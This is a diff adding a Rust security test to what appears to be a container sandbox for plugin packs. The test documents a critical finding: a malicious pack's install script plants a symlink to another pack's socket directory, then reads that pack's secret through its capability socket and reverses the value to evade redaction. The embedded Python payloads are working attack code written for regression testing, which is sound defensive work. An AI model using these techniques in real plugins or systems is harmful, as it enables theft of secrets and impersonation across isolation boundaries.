@@ -471,3 +471,88 @@ async fn f8_purged_packs_handler_trust_returns_with_a_new_pack_of_that_id() {
         "the purged pack's handler is trusted again for the new pack hp8: {v}"
     );
 }
+
+// ------------------------------------------------------------------------------------------
+// Finding 1, escalated (critical, strict mode): the same planted link, aimed at *another pack's
+// socket directory* (`user_data/sockets/<other>/`, group `socket_gid`, which every pack
+// container has in its groups), puts that pack's capability and egress sockets inside the
+// attacker's container at /pip-packages. The strict-mode peer check is only "through that
+// pack's mount, as uid 65534", so the attacker is taken for the other pack: it reads the
+// other pack's granted secrets (invariants 4 and 5).
+// ------------------------------------------------------------------------------------------
+
+const SPY_LIB: &str = r#"
+import os
+def run(context):
+    host = None
+    with open('/proc/self/mountinfo') as f:
+        for line in f:
+            fields = line.split()
+            if fields[4] == '/data':
+                host = fields[3]          # <home>/user_data/packs/atkspy
+    user_data = os.path.dirname(os.path.dirname(host))
+    target = os.path.join(user_data, 'sockets', 'atkbank')
+    os.makedirs('/data/python', exist_ok=True)
+    os.symlink(target, '/data/python/site-packages')
+    return target
+"#;
+
+const SPY_BLOCK: &str = r#"
+import os, rumi_capability
+def run(input_data, context=None):
+    out = {'listing': sorted(os.listdir('/pip-packages')) if os.path.isdir('/pip-packages') else None}
+    os.environ['RUMI_CAPABILITY_SOCKET'] = '/pip-packages/capability.sock'
+    try:
+        answer = rumi_capability.call('secrets.get', {'key': 'BANK_KEY'})
+        out['success'] = answer.get('success')
+        value = (answer.get('output') or {}).get('value') or ''
+        out['reversed'] = value[::-1]   # the run record redacts the value itself, not this
+    except Exception as e:
+        out['error'] = repr(e)
+    return out
+"#;
+
+#[tokio::test]
+#[ignore = "finding 1 (escalated): through the planted link a pack connects to another pack's capability socket and reads its secrets"]
+async fn f1b_planted_link_to_another_packs_sockets_impersonates_it() {
+    if !docker_ready() {
+        return;
+    }
+    let _c = Containers(vec!["atkbank", "atkspy"]);
+    let home = fresh_home();
+    make_pack(home.path(), "atkbank", &[("noop.py", "def run(i): return i\n")]);
+    make_pack(home.path(), "atkspy", &[("spy.py", SPY_BLOCK)]);
+    write(home.path(), "ecosystem/atkspy/backend/lib/install.py", SPY_LIB);
+    write(
+        home.path(),
+        "user_data/shared/flows/atkspy_spy.flow.yaml",
+        "flow_id: atkspy_spy\nphases: [m]\nsteps:\n  - {id: b, phase: m, type: python_file_call, owner_pack: atkspy, file: spy.py, timeout_seconds: 20, output: out}\n",
+    );
+    let k = Kernel::start_mode(home.path(), &[], false);
+    let (s, v) = k
+        .post("/api/secrets/set", json!({"key": "BANK_KEY", "value": "bank-secret-90210"}))
+        .await;
+    assert_eq!(s, 200, "{v}");
+    let (s, v) = k
+        .post(
+            "/api/capability/grants/grant",
+            json!({"principal_id": "atkbank", "permission_id": "secrets.get", "config": {"allowed_keys": ["BANK_KEY"]}}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    k.approve("atkbank").await;
+    k.approve("atkspy").await;
+    let r = lib_record(home.path(), "atkspy", 120).await;
+    assert_eq!(r["success"], true, "{r}");
+    k.stop();
+    let k = Kernel::start_mode(home.path(), &[], false);
+    let (status, run) = k.run("atkspy_spy", json!({})).await;
+    assert_eq!(status, 200, "{run}");
+    let out = &run["result"]["out"];
+    eprintln!("spy saw: {run}");
+    let reversed: String = "bank-secret-90210".chars().rev().collect();
+    assert!(
+        out["success"] != true && !out.to_string().contains(&reversed),
+        "pack atkspy read pack atkbank's secret through atkbank's capability socket: {out}"
+    );
+}
